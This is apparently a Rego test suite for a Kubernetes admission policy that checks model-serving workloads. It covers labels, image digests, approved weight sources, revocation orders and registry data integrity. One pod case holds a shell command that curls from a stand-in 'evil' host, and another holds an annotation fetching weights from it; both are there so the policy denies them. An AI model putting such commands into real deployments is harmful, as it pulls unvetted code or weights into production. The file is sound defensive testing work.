package lib.weighbridge.requirements.mod_test

import data.lib.weighbridge.requirements.mod

# Each case is a change to a pod (and, where it says so, to registry or live data) that is allowed as it stands, and the exact set
# of codes that must come of it: nothing missing, nothing surplus.

hex(character) := concat("", [character | some _ in numbers.range(1, 64)])

digest(character) := concat("", ["sha256:", hex(character)])

revision := concat("", ["0" | some _ in numbers.range(1, 40)])

source := concat("", ["hf://acme/kb-qa@", revision])

bucket := "s3://weights/kb-qa.onnx?versionId=7"

registry := {
	"environment": "prod",
	"point": "workload",
	"multi_tenant": true,
	"limits": {
		"pod_security": "restricted",
		"user_namespaces": false,
		"images": {
			"evidence": [],
			"registries": [],
			"bases": ["distroless", "wolfi"],
			"allow": [],
			"max_severity": "medium",
			"cuda": null,
			"cudnn": null,
		},
		"documented": [],
	},
	"labels": {"model_id": "model_id", "model_version": "model_version"},
	"support_images": {digest("5"): {}},
	"kinds": {},
	"modes": {},
	"waivers": {},
	"exempt_namespaces": {"kube-system": true},
	"orders": {"revoked": {}, "frozen": {}, "suspended": {}, "keys": {}},
	"records": {
		"kb-qa-001@1": {
			"model": "kb-qa-001",
			"version": "1",
			"approved": true,
			"digest": digest("a"),
			"not_after": 2000,
			"images": {digest("1"): {}},
			"sources": {source: true, bucket: true, concat("", ["oci://registry.example/kb-qa@", digest("7")]): true},
			"required": ["slsa-level2"],
			"missing": [],
			"reasons": [],
			"lacking": [],
			"environment_variables": {},
		},
		"kb-qa-001@2": {
			"model": "kb-qa-001",
			"version": "2",
			"approved": false,
			"digest": digest("b"),
			"not_after": 0,
			"images": {},
			"sources": {},
			"required": ["slsa-level2", "vuln-scan-clean"],
			"missing": ["vuln-scan-clean", "slsa-level2"],
			"reasons": [{"code": "REL-002", "message": "no evidence", "attestation": "vuln-scan-clean"}],
			"lacking": [],
			"environment_variables": {},
		},
	},
}

live := {
	"environment": "prod",
	"sequence": 1,
	"issued_at": 1,
	"not_after": 2000,
	"releases": [{"revision": "r1"}],
	"revoked": {},
	"frozen": {},
	"suspended": {},
	"keys": {},
	"active": {},
	"exhausted": {},
}

template := {
	"metadata": {
		"labels": {"model_id": "kb-qa-001", "model_version": "1"},
		"annotations": {"weighbridge.dev/artifact-digest": digest("a")},
	},
	"spec": {
		"automountServiceAccountToken": false,
		"securityContext": {"runAsNonRoot": true, "seccompProfile": {"type": "RuntimeDefault"}},
		"containers": [{
			"name": "serve",
			"image": concat("@", ["registry.example/serve", digest("1")]),
			"resources": {"limits": {"cpu": "1", "memory": "1Gi"}},
			"securityContext": {
				"allowPrivilegeEscalation": false,
				"readOnlyRootFilesystem": true,
				"capabilities": {"drop": ["ALL"]},
			},
		}],
	},
}

pod := object.union(template, {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "kb-qa", "namespace": "models"}})

at(kind) := {
	"apiVersion": {"Job": "batch/v1", "CronJob": "batch/v1", "ReplicationController": "v1", "PodTemplate": "v1"}[kind],
	"kind": kind,
	"metadata": {"name": "kb-qa", "namespace": "models"},
	"spec": {"template": template},
} if {
	kind in {"Job", "ReplicationController"}
} else := {
	"apiVersion": "batch/v1",
	"kind": kind,
	"metadata": {"name": "kb-qa", "namespace": "models"},
	"spec": {"jobTemplate": {"spec": {"template": template}}},
} if {
	kind == "CronJob"
} else := {
	"apiVersion": "v1",
	"kind": kind,
	"metadata": {"name": "kb-qa", "namespace": "models"},
	"template": template,
} if {
	kind == "PodTemplate"
} else := {
	"apiVersion": "apps/v1",
	"kind": kind,
	"metadata": {"name": "kb-qa", "namespace": "models"},
	"spec": {"template": template},
}

judged(object_, registry_, live_) := {violation.code |
	some violation in mod.deny with input as object_
		with data.weighbridge.registry as registry_
		with data.weighbridge.live as live_
		with data.lib.weighbridge.request.now_ns as 1000
}

set_(path, value) := [{"op": "add", "path": path, "value": value}]

gone(path) := [{"op": "remove", "path": path}]

label := "/metadata/labels/model_version"

image := "/spec/containers/0/image"

order := {"id": "o", "reason": "r", "issued_at": 1}

pods := {
	"as it stands": {"patch": [], "codes": set()},
	"no labels": {"patch": gone("/metadata/labels"), "codes": {"MOD-001"}},
	"labels null": {"patch": set_("/metadata/labels", null), "codes": {"MOD-001"}},
	"no version": {"patch": gone(label), "codes": {"MOD-001"}},
	"version in capitals": {"patch": set_(label, "LATEST"), "codes": {"MOD-001"}},
	"version with a line break": {"patch": set_(label, "1\n"), "codes": {"MOD-001"}},
	"another version in the label": {"patch": set_(label, "1@2"), "codes": {"MOD-001"}},
	"unknown version": {"patch": set_(label, "9"), "codes": {"MOD-002"}},
	"refused version": {
		"patch": array.concat(set_(label, "2"), set_("/metadata/annotations/weighbridge.dev~1artifact-digest", digest("b"))),
		"codes": {"MOD-003"},
	},
	"refused version in the approved one's clothes": {"patch": set_(label, "2"), "codes": {"MOD-003", "MOD-005"}},
	"no digest": {"patch": gone("/metadata/annotations"), "codes": {"MOD-005"}},
	"digest in capitals": {"patch": set_("/metadata/annotations/weighbridge.dev~1artifact-digest", upper(digest("a"))), "codes": {"MOD-005"}},
	"a tag": {"patch": set_(image, "registry.example/serve:1"), "codes": {"MOD-008"}},
	"two digests": {"patch": set_(image, concat("@", ["serve", digest("1"), digest("1")])), "codes": {"MOD-008"}},
	"a space behind the digest": {"patch": set_(image, concat("", ["serve@", digest("1"), " "])), "codes": {"MOD-008"}},
	"a digest in capitals": {"patch": set_(image, concat("", ["serve@sha256:", upper(hex("a"))])), "codes": {"MOD-008"}},
	"tag and digest": {"patch": set_(image, concat("@", ["serve:1", digest("1")])), "codes": set()},
	"a foreign image": {"patch": set_(image, concat("@", ["serve", digest("2")])), "codes": {"MOD-008"}},
	"a support image beside": {"patch": set_("/spec/containers/-", {"name": "p", "image": concat("@", ["p", digest("5")])}), "codes": set()},
	"a foreign init container": {"patch": set_("/spec/initContainers", [{"name": "i", "image": "i"}]), "codes": {"MOD-008"}},
	"a foreign ephemeral container": {"patch": set_("/spec/ephemeralContainers", [{"name": "e", "image": "e"}]), "codes": {"MOD-008"}},
	"a very long image": {"patch": set_(image, concat("", ["x" | some _ in numbers.range(1, 300)])), "codes": {"MOD-008"}},
	"support images alone": {
		"patch": array.concat(gone("/metadata/labels"), set_(image, concat("@", ["p", digest("5")]))),
		"codes": set(),
	},
	"exempt namespace": {"patch": array.concat(gone("/metadata/labels"), set_("/metadata/namespace", "kube-system")), "codes": set()},
	"namespace that looks exempt": {
		"patch": array.concat(gone("/metadata/labels"), set_("/metadata/namespace", "kube-system ")),
		"codes": {"MOD-001"},
	},
	"no namespace": {"patch": array.concat(gone("/metadata/labels"), gone("/metadata/namespace")), "codes": {"MOD-001"}},
	"no kind": {"patch": gone("/kind"), "codes": {"MOD-010"}},
	"no group": {"patch": gone("/apiVersion"), "codes": {"MOD-010"}},
	"no spec": {"patch": gone("/spec"), "codes": {"MOD-010"}},
	"no containers": {"patch": set_("/spec/containers", []), "codes": {"MOD-010"}},
	"containers as a map": {"patch": set_("/spec/containers", {"a": {}}), "codes": {"MOD-010"}},
	"no image": {"patch": gone(image), "codes": {"MOD-010"}},
	"labels as text": {"patch": set_("/metadata/labels", "model_id"), "codes": {"MOD-010"}},
	"a label as a number": {"patch": set_(label, 1), "codes": {"MOD-010"}},
	"volumes as a map": {"patch": set_("/spec/volumes", {}), "codes": {"MOD-010"}},
	"a nameless variable": {"patch": set_("/spec/containers/0/env", [{"value": "x"}]), "codes": {"MOD-010"}},
	"lists of null": {"patch": array.concat(set_("/spec/volumes", null), set_("/spec/initContainers", null)), "codes": set()},
	"host path": {"patch": set_("/spec/volumes", [{"name": "w", "hostPath": {"path": "/weights"}}]), "codes": {"MOD-009"}},
	"a claim": {"patch": set_("/spec/volumes", [{"name": "w", "persistentVolumeClaim": {"claimName": "w"}}]), "codes": {"MOD-009"}},
	"a volume of two kinds": {"patch": set_("/spec/volumes", [{"name": "w", "emptyDir": {}, "hostPath": {}}]), "codes": {"MOD-009"}},
	"a volume without a source": {"patch": set_("/spec/volumes", [{"name": "w"}]), "codes": set()},
	"a source of null": {"patch": set_("/spec/volumes", [{"name": "w", "hostPath": null}]), "codes": set()},
	"a volume of an unknown kind": {"patch": set_("/spec/volumes", [{"name": "w", "EmptyDir": {}}]), "codes": {"MOD-009"}},
	"certificates by CSI": {"patch": set_("/spec/volumes", [{"name": "w", "csi": {"driver": "csi.cert-manager.io"}}]), "codes": set()},
	"weights by CSI": {"patch": set_("/spec/volumes", [{"name": "w", "csi": {"driver": "oss.example.com"}}]), "codes": {"MOD-009"}},
	"an empty directory": {"patch": set_("/spec/volumes", [{"name": "w", "emptyDir": {}}]), "codes": set()},
	"an image volume": {"patch": set_("/spec/volumes", [{"name": "w", "image": {"reference": concat("@", ["w", digest("7")])}}]), "codes": set()},
	"a serving image as volume": {"patch": set_("/spec/volumes", [{"name": "w", "image": {"reference": concat("@", ["w", digest("1")])}}]), "codes": set()},
	"a foreign image volume": {"patch": set_("/spec/volumes", [{"name": "w", "image": {"reference": "w:1"}}]), "codes": {"MOD-009"}},
	"an image volume of no reference": {"patch": set_("/spec/volumes", [{"name": "w", "image": {}}]), "codes": {"MOD-009"}},
	"an approved source": {"patch": set_("/spec/containers/0/env", [{"name": "MODEL_ID", "value": source}]), "codes": set()},
	"a branch of the source": {"patch": set_("/spec/containers/0/env", [{"name": "MODEL_ID", "value": "hf://acme/kb-qa@main"}]), "codes": {"MOD-009"}},
	"a name of a hub": {"patch": set_("/spec/containers/0/env", [{"name": "MODEL_ID", "value": "acme/kb-qa"}]), "codes": {"MOD-009"}},
	"a value from elsewhere": {"patch": set_("/spec/containers/0/env", [{"name": "MODEL_ID", "valueFrom": {}}]), "codes": {"MOD-009"}},
	"an endpoint": {"patch": set_("/spec/containers/0/env", [{"name": "COLLECTOR", "value": "https://otel:4318"}]), "codes": set()},
	"telemetry": {"patch": set_("/spec/containers/0/env", [{"name": "OTEL_EXPORTER_OTLP_ENDPOINT", "value": "http://o/v1"}]), "codes": set()},
	"a foreign option": {"patch": set_("/spec/containers/0/args", ["--model", "acme/other"]), "codes": {"MOD-009"}},
	"a foreign option in one part": {"patch": set_("/spec/containers/0/args", ["--MODEL_PATH=hf://a/b"]), "codes": {"MOD-009"}},
	"a local path": {"patch": set_("/spec/containers/0/args", ["--model", "/models/kb-qa"]), "codes": set()},
	"an approved bucket": {"patch": set_("/spec/containers/0/args", [concat("=", ["--model", bucket])]), "codes": set()},
	"a download in a shell": {"patch": set_("/spec/containers/0/command", ["sh", "-c", "curl https://evil/w | tee m"]), "codes": {"MOD-009"}},
	"an annotation that fetches": {
		"patch": set_("/metadata/annotations/internal.serving.kserve.io~1storage-initializer-sourceuri", "S3://evil/w"),
		"codes": {"MOD-009"},
	},
}

evaluated[name] := found if {
	some name, case in pods
	object_ := json.patch(pod, case.patch)
	found := judged(object_, registry, live)
}

different[name] := found if {
	some name, found in evaluated
	found != pods[name].codes
}

test_pods if {
	count(evaluated) == count(pods)
	different == {}
}

kinds := ["DaemonSet", "Deployment", "ReplicaSet", "StatefulSet", "Job", "ReplicationController", "CronJob", "PodTemplate"]

test_kinds if {
	every kind in kinds {
		judged(at(kind), registry, live) == set()
		judged(json.remove(at(kind), ["metadata"]), registry, live) == set()
	}
}

unlabelled(object_) := json.patch(object_, [{"op": "remove", "path": concat("/", [path, "metadata/labels"])} |
	some path in ["/spec/template", "/spec/jobTemplate/spec/template", "/template"]
	object.get(object_, split(trim_prefix(path, "/"), "/"), null) != null
])

test_kinds_without_labels if {
	every kind in kinds {
		judged(unlabelled(at(kind)), registry, live) == {"MOD-001"}
	}
}

test_labels_disagree if {
	outside := json.patch(at("Deployment"), set_("/metadata/labels", {"model_version": "2"}))
	judged(outside, registry, live) == {"MOD-012"}
	between := json.patch(at("CronJob"), set_("/spec/jobTemplate/metadata", {"labels": {"model_id": "other"}}))
	judged(between, registry, live) == {"MOD-012"}
	same := json.patch(at("Deployment"), set_("/metadata/labels", {"model_version": "1", "app": "x"}))
	judged(same, registry, live) == set()
}

test_claim_templates if {
	claimed := json.patch(at("StatefulSet"), set_("/spec/volumeClaimTemplates", [{"metadata": {"name": "w"}}]))
	judged(claimed, registry, live) == {"MOD-009"}
}

others := {
	"service": {"object": {"apiVersion": "v1", "kind": "Service", "spec": {}}, "codes": set()},
	"kserve": {"object": {"apiVersion": "serving.kserve.io/v1beta1", "kind": "InferenceGraph", "spec": {}}, "codes": {"MOD-011"}},
	"kserve without a predictor": {
		"object": {"apiVersion": "serving.kserve.io/v1beta1", "kind": "InferenceService", "spec": {}},
		"codes": {"MOD-010"},
	},
	"own kind": {"object": {"apiVersion": "e.com/v1", "kind": "X", "spec": {"p": {"containers": [{"image": "x"}]}}}, "codes": {"MOD-011"}},
	"job of another group": {"object": {"apiVersion": "batch.volcano.sh/v1", "kind": "Job", "spec": {"tasks": [{"template": template}]}}, "codes": {"MOD-011"}},
	"text": {"object": "Pod", "codes": {"MOD-010"}},
	"null": {"object": null, "codes": {"MOD-010"}},
	"nothing": {"object": {}, "codes": {"MOD-010"}},
	"a list": {"object": {"apiVersion": "v1", "kind": "List", "items": []}, "codes": {"MOD-010"}},
	"several documents": {"object": [pod], "codes": {"MOD-010"}},
}

test_others if {
	different_ := {name: found |
		some name, case in others
		found := judged(case.object, registry, live)
		found != case.codes
	}
	different_ == {}
}

data_cases := {
	"as it stands": {"registry": [], "live": [], "codes": set()},
	"revoked by the release": {"registry": set_(revoked, order), "live": [], "codes": {"MOD-006"}},
	"revoked live": {"registry": [], "live": set_(concat("/", ["/revoked", digest("a")]), order), "codes": {"MOD-006"}},
	"revoked by what is no order": {"registry": [], "live": set_(concat("/", ["/revoked", digest("a")]), false), "codes": {"MOD-006"}},
	"a revocation that has ended": {"registry": set_(revoked, object.union(order, {"expires": 999})), "live": [], "codes": set()},
	"a revocation that ends now": {"registry": set_(revoked, object.union(order, {"expires": 1000})), "live": [], "codes": set()},
	"an end that cannot be read": {"registry": set_(revoked, object.union(order, {"expires": "soon"})), "live": [], "codes": {"MOD-006"}},
	"frozen by the release": {"registry": set_("/orders/frozen/kb-qa-001@1", order), "live": [], "codes": {"MOD-007"}},
	"frozen live": {"registry": [], "live": set_("/frozen/kb-qa-001@1", order), "codes": {"MOD-007"}},
	"expired": {"registry": set_("/records/kb-qa-001@1/not_after", 1000), "live": [], "codes": {"MOD-004"}},
	"an end of the approval that is text": {"registry": set_("/records/kb-qa-001@1/not_after", "never"), "live": [], "codes": {"MOD-004"}},
	"approved by text": {"registry": set_("/records/kb-qa-001@1/approved", "true"), "live": [], "codes": {"MOD-003"}},
	"a record that is text": {"registry": set_("/records/kb-qa-001@1", "approved"), "live": [], "codes": {"MOD-002"}},
	"a digest that is none": {"registry": set_("/records/kb-qa-001@1/digest", "unknown"), "live": [], "codes": {"MOD-005"}},
	"stale": {"registry": [], "live": set_("/not_after", 1000), "codes": {"MOD-014"}},
	"fresh for ever, as text": {"registry": [], "live": set_("/not_after", "9999"), "codes": {"MOD-014"}},
	"live data of another environment": {"registry": [], "live": set_("/environment", "dev"), "codes": {"MOD-014"}},
	"revoked is a list": {"registry": [], "live": set_("/revoked", [digest("a")]), "codes": {"MOD-014"}},
	"frozen is missing": {"registry": [], "live": gone("/frozen"), "codes": {"MOD-014"}},
	"no records": {"registry": gone("/records"), "live": [], "codes": {"MOD-013"}},
	"orders are text": {"registry": set_("/orders", "none"), "live": [], "codes": {"MOD-013"}},
	"another point's registry": {"registry": set_("/point", "envoy"), "live": [], "codes": {"MOD-013"}},
	"no environment": {"registry": set_("/environment", ""), "live": [], "codes": {"MOD-013"}},
	"no label names": {"registry": gone("/labels"), "live": [], "codes": {"MOD-013"}},
	"no exempt namespaces": {"registry": gone("/exempt_namespaces"), "live": [], "codes": {"MOD-013"}},
	"support images as a list": {"registry": set_("/support_images", [digest("1")]), "live": [], "codes": {"MOD-013"}},
	"no limits": {"registry": gone("/limits"), "live": [], "codes": {"MOD-013"}},
	"no level of hardening": {"registry": gone("/limits/pod_security"), "live": [], "codes": {"MOD-013"}},
	"user namespaces as text": {"registry": set_("/limits/user_namespaces", "true"), "live": [], "codes": {"MOD-013"}},
}

revoked := concat("/", ["/orders/revoked", digest("a")])

data_evaluated[name] := found if {
	some name, case in data_cases
	registry_ := json.patch(registry, case.registry)
	live_ := json.patch(live, case.live)
	found := judged(pod, registry_, live_)
}

data_different[name] := found if {
	some name, found in data_evaluated
	found != data_cases[name].codes
}

test_data if {
	count(data_evaluated) == count(data_cases)
	data_different == {}
}

test_without_data if {
	judged(pod, null, null) == {"MOD-013"}
	judged(pod, registry, null) == {"MOD-014"}
}

test_the_message_names_what_is_missing if {
	refused := json.patch(pod, set_(label, "2"))
	some violation in mod.deny with input as refused
		with data.weighbridge.registry as registry
		with data.weighbridge.live as live
		with data.lib.weighbridge.request.now_ns as 1000
	violation.code == "MOD-003"
	startswith(
		violation.message,
		"kb-qa-001@2: its `model_version` label lacks an approved attestation in prod: slsa-level2, vuln-scan-clean",
	)
}

test_the_message_gives_other_reasons if {
	refused := json.patch(pod, set_(label, "2"))
	registry_ := json.patch(registry, set_("/records/kb-qa-001@2/missing", []))
	some violation in mod.deny with input as refused
		with data.weighbridge.registry as registry_
		with data.weighbridge.live as live
		with data.lib.weighbridge.request.now_ns as 1000
	violation.code == "MOD-003"
	contains(violation.message, "refused in prod: no evidence")
}
